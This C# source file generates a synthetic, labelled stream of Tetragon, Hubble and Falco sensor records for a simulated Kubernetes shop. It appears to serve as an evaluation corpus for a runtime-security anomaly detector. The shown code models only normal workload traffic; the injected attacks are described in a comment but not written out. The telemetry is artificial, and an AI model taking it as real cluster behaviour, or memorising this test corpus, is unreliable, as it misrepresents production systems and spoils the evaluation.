using System.Globalization;
using System.Text;
using System.Text.Json;
using static RuntimeSentinel.Daemon.Corpus.SensorJson;

namespace RuntimeSentinel.Daemon.Corpus;

/// <summary>
/// A realistic, labelled stream of a small shop on a 3-node cluster, as the sensors would export it: Tetragon with
/// the usual network-observability policy (<c>tcp_connect</c>, <c>tcp_sendmsg</c>, <c>tcp_close</c>,
/// <c>inet_csk_accept</c>, <c>udp_sendmsg</c>), file and credential kprobes and its procFS inventory at sensor start;
/// Hubble L7 DNS flows (Cilium's DNS proxy, with the answers' addresses); and a few Falco alerts. Written from the
/// sensors' documented behaviour and from how the workloads behave (nginx, gunicorn, a Java worker, PostgreSQL,
/// Redis, a backup CronJob, CoreDNS, kube-proxy), never from what the detector does.
/// <para>
/// <see cref="NormalMinutes"/> of normal traffic with ordinary churn (a rolling update with a new image digest, an HPA
/// scale-up, CronJob runs, a container restart, pod IP churn, a DNS name whose addresses move between networks, a
/// CoreDNS pod replaced), then <see cref="AttackMinutes"/> in which 13 labelled attacks happen amid the same normal
/// traffic: 7 that do something the workload never does and 6 stealthy ones that only change rate, volume, ports or
/// time. Two more do not wait for that window: a web shell while the workloads still learn, and a privilege
/// escalation two minutes into the rolling update. Deterministic for a seed.
/// </para>
/// </summary>
internal sealed class ShopCorpus
{
    public const int NormalMinutes = 60;
    public const int AttackMinutes = 30;

    private readonly Random _r;
    private readonly DateTimeOffset _start;
    private readonly PriorityQueue<(string Sensor, byte[] Json), (DateTimeOffset, long)> _queue = new();
    private readonly List<CorpusLabel> _labels = [];
    private readonly List<CorpusNode> _nodes = [];
    private readonly Dictionary<string, CorpusWorkload> _w = new(StringComparer.Ordinal);
    private readonly string[] _clients;
    private long _sequence;
    private int _nextEndpoint = 100;
    private string[] _paygate = ["198.51.100.21", "198.51.100.22"];
    private readonly string[] _s3 = ["52.218.48.17", "52.218.52.9", "52.218.61.140"];

    public ShopCorpus(int seed, DateTimeOffset start)
    {
        _r = new Random(seed);
        _start = start;
        _clients = Enumerable.Range(0, 400).Select(_ => $"{_r.Next(1, 223)}.{_r.Next(0, 256)}.{_r.Next(0, 256)}.{_r.Next(1, 255)}").ToArray();
    }

    public IReadOnlyList<CorpusLabel> Labels => _labels;

    public DateTimeOffset Start => _start;

    public DateTimeOffset LearningEnds => _start.AddMinutes(30);

    public DateTimeOffset AttacksStart => _start.AddMinutes(NormalMinutes);

    public DateTimeOffset End => _start.AddMinutes(NormalMinutes + AttackMinutes);

    /// <summary>Every record of every sensor, in time order: (time, sensor, one JSON line).</summary>
    public IEnumerable<(DateTimeOffset Time, string Sensor, byte[] Json)> Generate()
    {
        BuildCluster();
        Inventory();
        var seconds = (NormalMinutes + AttackMinutes) * 60;
        for (var s = 0; s < seconds; s++)
        {
            var t = _start.AddSeconds(s);
            Second(s, t);
            while (_queue.TryPeek(out _, out var key) && key.Item1 < t.AddSeconds(1))
            {
                var (sensor, json) = _queue.Dequeue();
                yield return (key.Item1, sensor, json);
            }
        }

        while (_queue.TryDequeue(out var item, out var key))
        {
            yield return (key.Item1, item.Sensor, item.Json);
        }
    }

    /// <summary>Writes <c>tetragon.jsonl</c>, <c>hubble.jsonl</c>, <c>falco.jsonl</c> and <c>labels.json</c>.</summary>
    public static async Task<(long Records, IReadOnlyList<CorpusLabel> Labels)> WriteAsync(string directory, int seed, DateTimeOffset start, CancellationToken ct)
    {
        Directory.CreateDirectory(directory);
        var corpus = new ShopCorpus(seed, start);
        var files = new Dictionary<string, FileStream>(StringComparer.Ordinal);
        long n = 0;
        try
        {
            foreach (var (_, sensor, json) in corpus.Generate())
            {
                if (!files.TryGetValue(sensor, out var f))
                {
                    f = new FileStream(Path.Combine(directory, sensor + ".jsonl"), FileMode.Create, FileAccess.Write, FileShare.Read, 1 << 16);
                    files[sensor] = f;
                }

                await f.WriteAsync(json, ct).ConfigureAwait(false);
                f.WriteByte((byte)'\n');
                n++;
            }
        }
        finally
        {
            foreach (var f in files.Values)
            {
                await f.DisposeAsync().ConfigureAwait(false);
            }
        }

        var labels = new
        {
            schema = "sentinel.corpus-labels/v1",
            corpus = "shop",
            seed,
            start = Time(corpus.Start),
            learning_ends = Time(corpus.LearningEnds),
            attacks_start = Time(corpus.AttacksStart),
            end = Time(corpus.End),
            scenarios = corpus.Labels.Select(l => new { scenario = l.Scenario, kind = l.Kind, workload = l.Workload, related_workloads = l.Related, pods = l.Pods, start = Time(l.Start), end = Time(l.End), description = l.Description }),
        };
        await File.WriteAllTextAsync(Path.Combine(directory, "labels.json"), JsonSerializer.Serialize(labels, new JsonSerializerOptions { WriteIndented = true }), ct).ConfigureAwait(false);
        return (n, corpus.Labels);
    }

    private void Emit(DateTimeOffset t, string sensor, byte[] json) => _queue.Enqueue((sensor, json), (t, _sequence++));

    private DateTimeOffset Jitter(DateTimeOffset t) => t.AddMilliseconds(_r.Next(0, 1000));

    // ---------------------------------------------------------------- the cluster

    private void BuildCluster()
    {
        for (var i = 0; i < 3; i++)
        {
            var name = $"shop-prod-node-{(char)('a' + i)}";
            var ip = $"172.18.0.{3 + i}";
            _nodes.Add(new CorpusNode
            {
                Name = name,
                Ip = ip,
                PodPrefix = $"10.244.{i}.",
                Shim = new Proc { Pid = 1800 + i, Binary = "/usr/bin/containerd-shim-runc-v2", Args = "-namespace k8s.io -id", Start = _start.AddDays(-12), ExecId = ExecId(name, _start.AddDays(-12), 1800 + i) },
            });
        }

        Add(new CorpusWorkload { Namespace = "shop", Name = "frontend", Kind = "Deployment", Container = "nginx", Image = "docker.io/library/nginx:1.27.2", Digest = Digest(), Labels = new() { ["app"] = "frontend", ["tier"] = "web" }, Identity = 20101, ServiceIp = "10.96.12.10", ServicePort = 8080 }, 2);
        Add(new CorpusWorkload { Namespace = "shop", Name = "api", Kind = "Deployment", Container = "api", Image = "ghcr.io/acme/shop-api:3.14.1", Digest = Digest(), Labels = new() { ["app"] = "api", ["tier"] = "backend" }, Identity = 20102, ServiceIp = "10.96.12.40", ServicePort = 8000 }, 2);
        Add(new CorpusWorkload { Namespace = "shop", Name = "worker", Kind = "Deployment", Container = "worker", Image = "ghcr.io/acme/shop-worker:2.7.0", Digest = Digest(), Labels = new() { ["app"] = "worker" }, Identity = 20103 }, 1);
        Add(new CorpusWorkload { Namespace = "data", Name = "postgres", Kind = "StatefulSet", Container = "postgres", Image = "docker.io/library/postgres:16.4", Digest = Digest(), Labels = new() { ["app"] = "postgres" }, Identity = 20201, ServiceIp = "10.96.20.10", ServicePort = 5432 }, 1);
        Add(new CorpusWorkload { Namespace = "data", Name = "redis", Kind = "StatefulSet", Container = "redis", Image = "docker.io/library/redis:7.4.1", Digest = Digest(), Labels = new() { ["app"] = "redis" }, Identity = 20202, ServiceIp = "10.96.20.20", ServicePort = 6379 }, 1);
        Add(new CorpusWorkload { Namespace = "data", Name = "backup", Kind = "CronJob", Container = "backup", Image = "ghcr.io/acme/pg-backup:1.9.3", Digest = Digest(), Labels = new() { ["app"] = "backup" }, Identity = 20203 }, 0);
        Add(new CorpusWorkload { Namespace = "kube-system", Name = "coredns", Kind = "Deployment", Container = "coredns", Image = "registry.k8s.io/coredns/coredns:v1.11.3", Digest = Digest(), Labels = new() { ["k8s-app"] = "kube-dns" }, Identity = 102, ServiceIp = "10.96.0.10", ServicePort = 53 }, 2);
        Add(new CorpusWorkload { Namespace = "kube-system", Name = "kube-proxy", Kind = "DaemonSet", Container = "kube-proxy", Image = "registry.k8s.io/kube-proxy:v1.31.2", Digest = Digest(), Labels = new() { ["k8s-app"] = "kube-proxy" }, Identity = 1, HostNetwork = true }, 3);
    }

    private string Digest() => "sha256:" + Hex(32);

    private string Hex(int bytes)
    {
        var b = new byte[bytes];
        _r.NextBytes(b);
        return Convert.ToHexStringLower(b);
    }

    private void Add(CorpusWorkload w, int replicas)
    {
        _w[w.Name] = w;
        for (var i = 0; i < replicas; i++)
        {
            NewPod(w, _start.AddHours(-_r.Next(30, 240)), i);
        }
    }

    private CorpusWorkload W(string name) => _w[name];

    private string PodName(CorpusWorkload w, int ordinal) => w.Kind switch
    {
        "StatefulSet" => $"{w.Name}-{ordinal}",
        "DaemonSet" => $"{w.Name}-{Token(5)}",
        "CronJob" => $"{w.Name}-{29_412_000 + _r.Next(0, 999)}-{Token(5)}",
        _ => $"{w.Name}-{HashOf(w.Digest)}-{Token(5)}",
    };

    private static string HashOf(string digest) => new string(digest[7..17].Select(c => "bcdfghjklmnpqrstvwxz2456789"[c % 27]).ToArray());

    private string Token(int n) => new(Enumerable.Range(0, n).Select(_ => "bcdfghjklmnpqrstvwxz2456789"[_r.Next(27)]).ToArray());

    /// <summary>A new pod (scheduled, IP from its node's range) with its entrypoint and long-running processes.</summary>
    private CorpusPod NewPod(CorpusWorkload w, DateTimeOffset started, int ordinal, CorpusNode? on = null)
    {
        var node = on ?? (w.Kind == "DaemonSet" ? _nodes[ordinal % _nodes.Count] : _nodes[_r.Next(_nodes.Count)]);
        var ip = w.HostNetwork ? node.Ip : node.PodPrefix + node.NextPodIp++;
        var pod = new CorpusPod
        {
            Workload = w,
            Name = PodName(w, ordinal),
            Ip = ip,
            Node = node,
            ContainerId = "containerd://" + Hex(32),
            ContainerStart = started,
            Image = w.Image,
            Digest = w.Digest,
            EndpointId = _nextEndpoint++,
            EphemeralStart = 32768 + _r.Next(0, 25000),
        };
        w.Pods.Add(pod);
        StartProcesses(pod, started);
        return pod;
    }

    private Proc Spawn(CorpusPod pod, string binary, string args, DateTimeOffset start, Proc? parent, int uid, string cwd = "/", string flags = "execve clone")
    {
        var pid = pod.Node.NextHostPid++;
        var containerPid = pod.Processes.Count == 0 ? 1 : pod.NextContainerPid++;
        return new Proc { Pid = pid, ContainerPid = containerPid, Binary = binary, Args = args, Start = start, ExecId = ExecId(pod.Node.Name, start, pid), Parent = parent ?? pod.Node.Shim, Pod = pod, Uid = uid, Cwd = cwd, Flags = flags };
    }

    private void StartProcesses(CorpusPod pod, DateTimeOffset start)
    {
        var w = pod.Workload;
        pod.Processes.Clear();
        pod.NextContainerPid = 2;
        switch (w.Name)
        {
            case "frontend":
                var master = Spawn(pod, "/usr/sbin/nginx", "-g daemon off;", start, null, 0);
                pod.Processes.Add(master);
                pod.Processes.Add(Spawn(pod, "/usr/sbin/nginx", "-g daemon off;", start.AddMilliseconds(30), master, 101, flags: "clone"));
                pod.Processes.Add(Spawn(pod, "/usr/sbin/nginx", "-g daemon off;", start.AddMilliseconds(31), master, 101, flags: "clone"));
                break;
            case "api":
                var gunicorn = Spawn(pod, "/usr/local/bin/python3.11", "/usr/local/bin/gunicorn shop.wsgi:application --bind 0.0.0.0:8000 --workers 3", start, null, 1000, "/app");
                pod.Processes.Add(gunicorn);
                for (var i = 0; i < 3; i++)
                {
                    pod.Processes.Add(Spawn(pod, "/usr/local/bin/python3.11", "/usr/local/bin/gunicorn shop.wsgi:application --bind 0.0.0.0:8000 --workers 3", start.AddMilliseconds(400 + i), gunicorn, 1000, "/app", "clone"));
                }

                break;
            case "worker":
                pod.Processes.Add(Spawn(pod, "/opt/java/openjdk/bin/java", "-XX:MaxRAMPercentage=75 -jar /opt/worker/worker.jar", start, null, 1000, "/opt/worker"));
                break;
            case "postgres":
                var pm = Spawn(pod, "/usr/lib/postgresql/16/bin/postgres", "-c config_file=/etc/postgresql/postgresql.conf", start, null, 999, "/var/lib/postgresql");
                pod.Processes.Add(pm);
                pod.Processes.Add(Spawn(pod, "/usr/lib/postgresql/16/bin/postgres", "postgres: checkpointer", start.AddMilliseconds(50), pm, 999, "/var/lib/postgresql/data", "clone"));
                pod.Processes.Add(Spawn(pod, "/usr/lib/postgresql/16/bin/postgres", "postgres: walwriter", start.AddMilliseconds(51), pm, 999, "/var/lib/postgresql/data", "clone"));
                pod.Processes.Add(Spawn(pod, "/usr/lib/postgresql/16/bin/postgres", "postgres: autovacuum launcher", start.AddMilliseconds(52), pm, 999, "/var/lib/postgresql/data", "clone"));
                break;
            case "redis":
                pod.Processes.Add(Spawn(pod, "/usr/local/bin/redis-server", "*:6379", start, null, 999, "/data"));
                break;
            case "coredns":
                pod.Processes.Add(Spawn(pod, "/coredns", "-conf /etc/coredns/Corefile", start, null, 0));
                break;
            case "kube-proxy":
                pod.Processes.Add(Spawn(pod, "/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf --hostname-override=" + pod.Node.Name, start, null, 0));
                break;
        }
    }

    /// <summary>Tetragon's procFS scan at sensor start: every running process, stamped with its (old) start time.</summary>
    private void Inventory()
    {
        foreach (var w in _w.Values)
        {
            foreach (var pod in w.Running)
            {
                foreach (var p in pod.Processes)
                {
                    var scanned = new Proc { Pid = p.Pid, ContainerPid = p.ContainerPid, Binary = p.Binary, Args = p.Args, Start = p.Start, ExecId = p.ExecId, Parent = p.Parent, Pod = pod, Uid = p.Uid, Cwd = p.Cwd, Flags = "procFS auid rootcwd" };
                    Emit(_start.AddMilliseconds(_r.Next(0, 800)), "tetragon", Exec(scanned, pod.Node.Name, p.Start));
                }
            }
        }
    }

    // ---------------------------------------------------------------- behaviour, second by second

    private void Second(int s, DateTimeOffset t)
    {
        var minute = s / 60;
        Frontend(t);
        Api(s, t);
        Worker(s, t);
        Postgres(s, t);
        Redis(s, t);
        CoreDns(s, t);
        KubeProxy(s, t);
        Churn(s, t);
        Attacks(s, t);
        if (s % 60 == 0 && minute % 15 == 5 && minute != 80)
        {
            // (At minute 80 the attacker's run replaces the scheduled one.)
            BackupRun(t, minute);
        }
    }

    private void Frontend(DateTimeOffset t)
    {
        var w = W("frontend");
        foreach (var pod in w.Running.ToList())
        {
            var nginx = pod.Processes[1 + _r.Next(pod.Processes.Count - 1)];
            if (_r.NextDouble() < 0.35)
            {
                // A visitor through the LoadBalancer (client address preserved): accept, serve a file, respond, close.
                var at = Jitter(t);
                var client = _clients[_r.Next(_clients.Length)];
                var conn = new Sock("tcp", pod.Ip, 8080, client, 40000 + _r.Next(20000), "TCP_ESTABLISHED");
                Emit(at, "tetragon", Kprobe(nginx, pod.Node.Name, at, "inet_csk_accept", "network-observability", SockArgs(new Sock("tcp", "0.0.0.0", 8080, "0.0.0.0", 0, "TCP_LISTEN")), conn));
                var asset = _r.Next(10) switch
                {
                    < 3 => "/usr/share/nginx/html/index.html",
                    < 6 => "/usr/share/nginx/html/assets/app.3f9c1e7a.js",
                    < 8 => "/usr/share/nginx/html/assets/app.91ab2c04.css",
                    _ => "/usr/share/nginx/html/favicon.ico",
                };
                Emit(at.AddMilliseconds(1), "tetragon", Kprobe(nginx, pod.Node.Name, at.AddMilliseconds(1), "security_file_permission", "file-monitoring", FileArgs(asset, false)));
                if (_r.NextDouble() < 0.6)
                {
                    ApiCall(pod, nginx, at.AddMilliseconds(2));
                }

                Emit(at.AddMilliseconds(9), "tetragon", Kprobe(nginx, pod.Node.Name, at.AddMilliseconds(9), "tcp_sendmsg", "network-observability", SockArgs(conn, 2000 + _r.Next(60_000))));
                Emit(at.AddMilliseconds(12), "tetragon", Kprobe(nginx, pod.Node.Name, at.AddMilliseconds(12), "tcp_close", "network-observability", SockArgs(conn)));
            }

            if (t.Second % 10 == (pod.EndpointId % 10))
            {
                Probe(pod, nginx, t, 8080);
            }
        }
    }

    /// <summary>The kubelet's HTTP probe: a connection from the node to the container's port.</summary>
    private void Probe(CorpusPod pod, Proc server, DateTimeOffset t, int port)
    {
        var conn = new Sock("tcp", pod.Ip, port, pod.Node.Ip, 40000 + _r.Next(20000), "TCP_ESTABLISHED");
        var at = t.AddMilliseconds(_r.Next(1000));
        Emit(at, "tetragon", Kprobe(server, pod.Node.Name, at, "inet_csk_accept", "network-observability", SockArgs(new Sock("tcp", "0.0.0.0", port, "0.0.0.0", 0, "TCP_LISTEN")), conn));
        Emit(at.AddMilliseconds(2), "tetragon", Kprobe(server, pod.Node.Name, at.AddMilliseconds(2), "tcp_sendmsg", "network-observability", SockArgs(conn, 180)));
        Emit(at.AddMilliseconds(3), "tetragon", Kprobe(server, pod.Node.Name, at.AddMilliseconds(3), "tcp_close", "network-observability", SockArgs(conn)));
    }

    private readonly Dictionary<(string, string), Sock> _pools = [];

    /// <summary>
    /// A request over a pooled connection to a Service (kube-proxy DNAT: the client connects to the ClusterIP, the server
    /// accepts from the client pod's address). A new connection (first use, or the pool recycling it) shows the
    /// client's tcp_connect and the server's inet_csk_accept; every request then shows both sides' tcp_sendmsg.
    /// </summary>
    private void Call(CorpusPod client, Proc clientProc, CorpusWorkload service, DateTimeOffset t, long request, long response, double recycle = 0.02)
    {
        var server = service.Running.ElementAt(_r.Next(service.Running.Count()));
        var serverProc = server.Main;
        var key = (client.Name + "/" + clientProc.Pid, service.Name);
        if (!_pools.TryGetValue(key, out var conn) || _r.NextDouble() < recycle || !service.Running.Any(p => p.Ip == conn.Daddr || service.ServiceIp == conn.Daddr))
        {
            if (_pools.TryGetValue(key, out var old))
            {
                Emit(t, "tetragon", Kprobe(clientProc, client.Node.Name, t, "tcp_close", "network-observability", SockArgs(old)));
            }

            conn = new Sock("tcp", client.Ip, client.EphemeralPort(), service.ServiceIp!, service.ServicePort, "TCP_SYN_SENT");
            _pools[key] = conn;
            Emit(t, "tetragon", Kprobe(clientProc, client.Node.Name, t, "tcp_connect", "network-observability", SockArgs(conn)));
            var accepted = new Sock("tcp", server.Ip, service.ServicePort, client.Ip, conn.Sport, "TCP_ESTABLISHED");
            Emit(t.AddMilliseconds(1), "tetragon", Kprobe(serverProc, server.Node.Name, t.AddMilliseconds(1), "inet_csk_accept", "network-observability", SockArgs(new Sock("tcp", "0.0.0.0", service.ServicePort, "0.0.0.0", 0, "TCP_LISTEN")), accepted));
        }

        var live = conn with { State = "TCP_ESTABLISHED" };
        Emit(t.AddMilliseconds(1), "tetragon", Kprobe(clientProc, client.Node.Name, t.AddMilliseconds(1), "tcp_sendmsg", "network-observability", SockArgs(live, request)));
        var reply = new Sock("tcp", server.Ip, service.ServicePort, client.Ip, conn.Sport, "TCP_ESTABLISHED");
        Emit(t.AddMilliseconds(3), "tetragon", Kprobe(serverProc, server.Node.Name, t.AddMilliseconds(3), "tcp_sendmsg", "network-observability", SockArgs(reply, response)));
    }

    private void ApiCall(CorpusPod frontend, Proc nginx, DateTimeOffset t)
    {
        Call(frontend, nginx, W("api"), t, 400 + _r.Next(800), 0, 0.03);
        var api = W("api").Running.ElementAt(_r.Next(W("api").Running.Count()));
        var worker = api.Processes[1 + _r.Next(api.Processes.Count - 1)];
        Call(api, worker, W("postgres"), t.AddMilliseconds(2), 200 + _r.Next(400), 300 + _r.Next(6000), 0.004);
        if (_r.NextDouble() < 0.5)
        {
            Call(api, worker, W("redis"), t.AddMilliseconds(3), 60, 120 + _r.Next(400), 0.004);
        }

        if (_r.NextDouble() < 0.04)
        {
            Payment(api, worker, t.AddMilliseconds(4), 2_000 + _r.Next(3_000));
        }

        if (_r.NextDouble() < 0.1)
        {
            var tmp = $"/tmp/wsgi-{Token(8)}.tmp";
            Emit(t.AddMilliseconds(5), "tetragon", Kprobe(worker, api.Node.Name, t.AddMilliseconds(5), "security_file_permission", "file-monitoring", FileArgs(tmp, true)));
        }

        if (_r.NextDouble() < 0.02)
        {
            // Invoice rendering: gunicorn runs the PDF helper now and then.
            Helper(api, worker, t.AddMilliseconds(6));
        }
    }

    private void Helper(CorpusPod api, Proc worker, DateTimeOffset t)
    {
        var helper = Spawn(api, "/usr/bin/pdftotext", "-layout /tmp/invoice.pdf -", t, worker, 1000, "/app");
        Emit(t, "tetragon", Exec(helper, api.Node.Name, t));
        Emit(t.AddMilliseconds(2), "tetragon", Kprobe(helper, api.Node.Name, t.AddMilliseconds(2), "security_file_permission", "file-monitoring", FileArgs("/tmp/invoice.pdf", false)));
        Emit(t.AddMilliseconds(40), "tetragon", SensorJson.Exit(helper, api.Node.Name, t.AddMilliseconds(40)));
    }

    /// <summary>A lookup through the cluster DNS: the client's datagram to the DNS Service, and Cilium's DNS proxy flows.</summary>
    private void Resolve(CorpusPod client, Proc proc, string name, IReadOnlyList<string> ips, DateTimeOffset t)
    {
        var dnsPods = W("coredns").Running.ToList();
        var dns = dnsPods[_r.Next(dnsPods.Count)];
        var port = client.EphemeralPort();
        Emit(t, "tetragon", Kprobe(proc, client.Node.Name, t, "udp_sendmsg", "network-observability", SockArgs(new Sock("udp", client.Ip, port, "10.96.0.10", 53, ""), 40 + name.Length)));
        Emit(t, "hubble", HubbleDns(client, dns, client.Node.Name, t, name, port, false, []));
        Emit(t.AddMilliseconds(1), "hubble", HubbleDns(client, dns, client.Node.Name, t.AddMilliseconds(1), name, port, true, ips));
        Emit(t.AddMilliseconds(1), "tetragon", Kprobe(dns.Main, dns.Node.Name, t.AddMilliseconds(1), "udp_sendmsg", "network-observability", SockArgs(new Sock("udp", dns.Ip, 53, client.Ip, port, ""), 60 + (ips.Count * 16))));
    }

    /// <summary>A call to the payment provider: resolved by name (its addresses move), then HTTPS to one of them.</summary>
    private void Payment(CorpusPod api, Proc worker, DateTimeOffset t, long bytes)
    {
        Resolve(api, worker, "api.paygate.example", _paygate, t);
        External(api, worker, _paygate[_r.Next(_paygate.Length)], 443, t.AddMilliseconds(3), bytes, 4_000);
    }

    private void External(CorpusPod pod, Proc proc, string ip, int port, DateTimeOffset t, long sent, long received)
    {
        var conn = new Sock("tcp", pod.Ip, pod.EphemeralPort(), ip, port, "TCP_SYN_SENT");
        Emit(t, "tetragon", Kprobe(proc, pod.Node.Name, t, "tcp_connect", "network-observability", SockArgs(conn)));
        var live = conn with { State = "TCP_ESTABLISHED" };
        for (var sentSoFar = 0L; sentSoFar < sent; sentSoFar += 65_536)
        {
            var at = t.AddMilliseconds(5 + (sentSoFar / 65_536));
            Emit(at, "tetragon", Kprobe(proc, pod.Node.Name, at, "tcp_sendmsg", "network-observability", SockArgs(live, Math.Min(65_536, sent - sentSoFar))));
        }

        var end = t.AddMilliseconds(20 + (sent / 65_536));
        Emit(end, "tetragon", Kprobe(proc, pod.Node.Name, end, "tcp_close", "network-observability", SockArgs(live)));
    }

    private void Api(int s, DateTimeOffset t)
    {
        foreach (var pod in W("api").Running)
        {
            if (s % 10 == (pod.EndpointId % 10))
            {
                Probe(pod, pod.Processes[1], t, 8000);
            }

            if (s % 60 == (pod.EndpointId % 60))
            {
                // The ORM resolves its database and cache by name when it refreshes connections.
                var worker = pod.Processes[1 + _r.Next(pod.Processes.Count - 1)];
                Resolve(pod, worker, "postgres.data.svc.cluster.local", [W("postgres").ServiceIp!], Jitter(t));
                Resolve(pod, worker, "redis.data.svc.cluster.local", [W("redis").ServiceIp!], Jitter(t));
                Emit(Jitter(t), "tetragon", Kprobe(worker, pod.Node.Name, Jitter(t), "security_file_permission", "file-monitoring", FileArgs("/etc/ssl/certs/ca-certificates.crt", false)));
                Emit(Jitter(t), "tetragon", Kprobe(worker, pod.Node.Name, Jitter(t), "security_file_permission", "file-monitoring", FileArgs("/app/shop/templates/invoice.html", false)));
            }
        }
    }

    private void Worker(int s, DateTimeOffset t)
    {
        foreach (var pod in W("worker").Running)
        {
            var java = pod.Main;
            if (s % 2 == 0)
            {
                // Polls the job queue.
                Call(pod, java, W("redis"), Jitter(t), 90, 40 + (_r.NextDouble() < 0.1 ? 900 : 0), 0.001);
            }

            if (_r.NextDouble() < 0.08)
            {
                Call(pod, java, W("postgres"), Jitter(t), 300 + _r.Next(500), 200, 0.002);
            }

            if (s % 180 == 90)
            {
                // Order confirmation mails through the provider's SMTP relay.
                Resolve(pod, java, "smtp.mailrelay.example", ["192.0.2.25", "192.0.2.26"], Jitter(t));
                External(pod, java, _r.NextDouble() < 0.5 ? "192.0.2.25" : "192.0.2.26", 587, Jitter(t).AddMilliseconds(5), 12_000, 800);
            }

            if (s % 20 == 7)
            {
                var at = Jitter(t);
                Emit(at, "tetragon", Kprobe(java, pod.Node.Name, at, "security_file_permission", "file-monitoring", FileArgs("/tmp/hsperfdata_worker/1", true)));
            }

            if (s % 600 == 300)
            {
                // The Kubernetes client re-lists its ConfigMaps.
                External(pod, java, "10.96.0.1", 443, Jitter(t), 800, 12_000);
                Emit(Jitter(t), "falco", Falco("Contact K8S API Server From Container", "Notice", "Unexpected connection to K8s API Server from container", Jitter(t), pod.Node.Name, FalcoFields(pod, java, "10.96.0.1:443", $"{pod.Ip}:{pod.EphemeralPort()}->10.96.0.1:443", "connect"), "k8s", "network", "container", "mitre_discovery"));
            }
        }
    }

    private Dictionary<string, object?> FalcoFields(CorpusPod pod, Proc p, string? target, string? fd, string evtType) => new()
    {
        ["container.id"] = pod.ContainerId["containerd://".Length..][..12],
        ["container.image.repository"] = pod.Image.Split(':')[0],
        ["container.image.tag"] = pod.Image.Split(':')[1],
        ["container.name"] = pod.Workload.Container,
        ["evt.type"] = evtType,
        ["fd.name"] = fd,
        ["k8s.ns.name"] = pod.Workload.Namespace,
        ["k8s.pod.name"] = pod.Name,
        ["proc.cmdline"] = $"{Path.GetFileName(p.Binary)} {p.Args}".Trim(),
        ["proc.exepath"] = p.Binary,
        ["proc.name"] = Path.GetFileName(p.Binary),
        ["proc.pid"] = p.Pid,
        ["proc.pname"] = p.Parent is { } parent ? Path.GetFileName(parent.Binary) : null,
        ["user.name"] = p.Uid == 0 ? "root" : "app",
        ["user.uid"] = p.Uid,
        ["fd.sip.name"] = target,
    };

    private void Postgres(int s, DateTimeOffset t)
    {
        foreach (var pod in W("postgres").Running)
        {
            var backend = pod.Processes[0];
            if (_r.NextDouble() < 0.5)
            {
                var at = Jitter(t);
                Emit(at, "tetragon", Kprobe(backend, pod.Node.Name, at, "security_file_permission", "file-monitoring", FileArgs($"/var/lib/postgresql/data/base/16384/{16_400 + _r.Next(300)}", _r.NextDouble() < 0.3)));
            }

            if (s % 5 == 0)
            {
                var at = Jitter(t);
                Emit(at, "tetragon", Kprobe(pod.Processes[2], pod.Node.Name, at, "security_file_permission", "file-monitoring", FileArgs($"/var/lib/postgresql/data/pg_wal/0000000100000004000000{(s / 600) + 16:X2}", true)));
            }

            if (s % 300 == 150)
            {
                var at = Jitter(t);
                Emit(at, "tetragon", Kprobe(pod.Processes[1], pod.Node.Name, at, "security_file_permission", "file-monitoring", FileArgs("/var/lib/postgresql/data/global/pg_control", true)));
            }

            if (s % 60 == 20)
            {
                var at = Jitter(t);
                Emit(at, "tetragon", Kprobe(pod.Processes[3], pod.Node.Name, at, "security_file_permission", "file-monitoring", FileArgs($"/var/lib/postgresql/data/base/16384/{16_400 + _r.Next(300)}_vm", false)));
                Probe(pod, backend, t, 5432);
            }
        }
    }

    private void Redis(int s, DateTimeOffset t)
    {
        foreach (var pod in W("redis").Running)
        {
            var redis = pod.Main;
            var at = Jitter(t);
            Emit(at, "tetragon", Kprobe(redis, pod.Node.Name, at, "security_file_permission", "file-monitoring", FileArgs("/data/appendonly.aof", true)));
            if (s % 900 == 450)
            {
                // BGSAVE: a forked child writes a temporary dump and renames it.
                var child = Spawn(pod, "/usr/local/bin/redis-server", "*:6379", at, redis, 999, "/data", "clone");
                Emit(at.AddMilliseconds(1), "tetragon", Kprobe(child, pod.Node.Name, at.AddMilliseconds(1), "security_file_permission", "file-monitoring", FileArgs($"/data/temp-{child.Pid}.rdb", true)));
                Emit(at.AddMilliseconds(300), "tetragon", SensorJson.Exit(child, pod.Node.Name, at.AddMilliseconds(300)));
            }

            if (s % 15 == 3)
            {
                Probe(pod, redis, t, 6379);
            }
        }
    }

    private void CoreDns(int s, DateTimeOffset t)
    {
        foreach (var pod in W("coredns").Running)
        {
            if (s % 7 == (pod.EndpointId % 7))
            {
                // Forwarding an external name upstream.
                var at = Jitter(t);
                var port = pod.EphemeralPort();
                var upstream = _r.NextDouble() < 0.5 ? "1.1.1.1" : "8.8.8.8";
                Emit(at, "tetragon", Kprobe(pod.Main, pod.Node.Name, at, "udp_sendmsg", "network-observability", SockArgs(new Sock("udp", pod.Ip, port, upstream, 53, ""), 50)));
            }

            if (s % 10 == 5)
            {
                Probe(pod, pod.Main, t, 8080);
            }

            if (s % 300 == 100)
            {
                External(pod, pod.Main, "10.96.0.1", 443, Jitter(t), 600, 4_000);
            }

            if (s % 30 == 12)
            {
                var at = Jitter(t);
                Emit(at, "tetragon", Kprobe(pod.Main, pod.Node.Name, at, "security_file_permission", "file-monitoring", FileArgs("/etc/coredns/Corefile", false)));
            }
        }
    }

    private void KubeProxy(int s, DateTimeOffset t)
    {
        foreach (var pod in W("kube-proxy").Running)
        {
            if (s % 30 == (pod.EndpointId % 30))
            {
                // Periodic sync: iptables-restore under the xtables lock.
                var at = Jitter(t);
                var restore = Spawn(pod, "/usr/sbin/iptables-restore", "-w 5 -W 100000 --noflush --counters", at, pod.Main, 0);
                Emit(at, "tetragon", Exec(restore, pod.Node.Name, at));
                Emit(at.AddMilliseconds(2), "tetragon", Kprobe(restore, pod.Node.Name, at.AddMilliseconds(2), "security_file_permission", "file-monitoring", FileArgs("/run/xtables.lock", true)));
                Emit(at.AddMilliseconds(60), "tetragon", SensorJson.Exit(restore, pod.Node.Name, at.AddMilliseconds(60)));
            }

            if (s % 120 == (pod.EndpointId % 120))
            {
                External(pod, pod.Main, "172.18.0.2", 6443, Jitter(t), 400, 8_000);
            }
        }
    }

    /// <summary>The backup CronJob: a short-lived pod dumps the database, compresses it and uploads it to S3.</summary>
    private void BackupRun(DateTimeOffset t, int minute, int scale = 1, string? scenario = null)
    {
        var w = W("backup");
        var pod = NewPod(w, t, 0);
        var shell = Spawn(pod, "/bin/sh", "-c pg_dump -h postgres.data.svc.cluster.local -U backup shop | gzip > /backup/shop.sql.gz && aws s3 cp /backup/shop.sql.gz s3://acme-backups/shop/", t, null, 1000, "/backup");
        pod.Processes.Add(shell);
        Emit(t, "tetragon", Exec(shell, pod.Node.Name, t));
